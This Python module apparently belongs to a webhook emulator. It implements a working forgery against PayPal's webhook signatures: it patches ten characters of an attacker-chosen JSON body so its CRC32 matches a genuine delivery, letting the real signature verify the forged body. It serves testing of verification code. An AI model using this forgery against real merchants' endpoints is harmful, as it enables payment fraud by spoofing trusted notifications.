"""The replay PayPal's signature scheme allows: another body with the CRC32 of a genuine one.

PayPal signs `transmission id|time|webhook id|CRC32(body)`, not a hash of the body. CRC32 is affine
over GF(2): for bodies of one length, crc(a XOR d) = crc(a) XOR crc(d) XOR crc(zeros). So changing
chosen bits moves the CRC by a XOR of per-bit differences, and 32 independent free bits reach any
CRC: solving a 32-column linear system picks which to flip. Here the free bits are the low nibbles
of characters in a JSON string, each kept within '0'..'?' (0x30-0x3F), so the body stays valid JSON
and the genuine delivery's headers still verify. The emulator uses this to play the attacker.
"""

from __future__ import annotations

import zlib

#: Characters whose low nibble is free: '0'-'9', ':', ';', '<', '=', '>', '?' (none needs escaping).
FREE_BASE = 0x30
#: Characters patched: 10 of them give 40 free bits, more than the 32 needed, so a solution exists
#: even when a few of the per-bit differences happen to be dependent.
FREE_CHARACTERS = 10
PLACEHOLDER = b"0" * FREE_CHARACTERS


def same_crc32(body: bytes, offset: int, target: int) -> bytes:
    """`body` with the FREE_CHARACTERS bytes at `offset` (each 0x30-0x3F) set so CRC32 == `target`."""
    window = body[offset : offset + FREE_CHARACTERS]
    if len(window) != FREE_CHARACTERS or any(b & 0xF0 != FREE_BASE for b in window):
        raise ValueError("the patched characters must be FREE_CHARACTERS bytes from '0' to '?'")
    base = bytearray(body)
    for i in range(FREE_CHARACTERS):
        base[offset + i] = FREE_BASE
    start = zlib.crc32(bytes(base))
    columns = []  # (CRC change when this bit is set, which bit)
    for i in range(FREE_CHARACTERS):
        for bit in range(4):
            flipped = bytearray(base)
            flipped[offset + i] ^= 1 << bit
            columns.append((zlib.crc32(bytes(flipped)) ^ start, (i, bit)))
    chosen = _solve(columns, start ^ target)
    for i, bit in chosen:
        base[offset + i] |= 1 << bit
    patched = bytes(base)
    assert zlib.crc32(patched) == target
    return patched


def _solve(columns: list[tuple[int, tuple[int, int]]], want: int) -> list[tuple[int, int]]:
    """Which columns XOR to `want`: Gaussian elimination over GF(2), each row tracking its sources."""
    basis: dict[int, tuple[int, frozenset[int]]] = {}  # leading bit -> (vector, indexes combined)
    for index, (column, _) in enumerate(columns):
        vector, used = column, frozenset({index})
        while vector:
            lead = vector.bit_length() - 1
            if lead not in basis:
                basis[lead] = (vector, used)
                break
            other, other_used = basis[lead]
            vector, used = vector ^ other, used ^ other_used
    picked: frozenset[int] = frozenset()
    while want:
        lead = want.bit_length() - 1
        if lead not in basis:
            raise ValueError("these characters cannot reach the CRC; patch others")
        vector, used = basis[lead]
        want, picked = want ^ vector, picked ^ used
    return [columns[index][1] for index in sorted(picked)]


def forge(genuine: bytes, forged: bytes) -> bytes:
    """`forged` (which holds PLACEHOLDER exactly once, inside a JSON string) patched to the CRC32
    of `genuine`: a signature PayPal made for `genuine` verifies it."""
    if forged.count(PLACEHOLDER) != 1:
        raise ValueError("the forged body must hold the placeholder exactly once")
    return same_crc32(forged, forged.index(PLACEHOLDER), zlib.crc32(genuine))
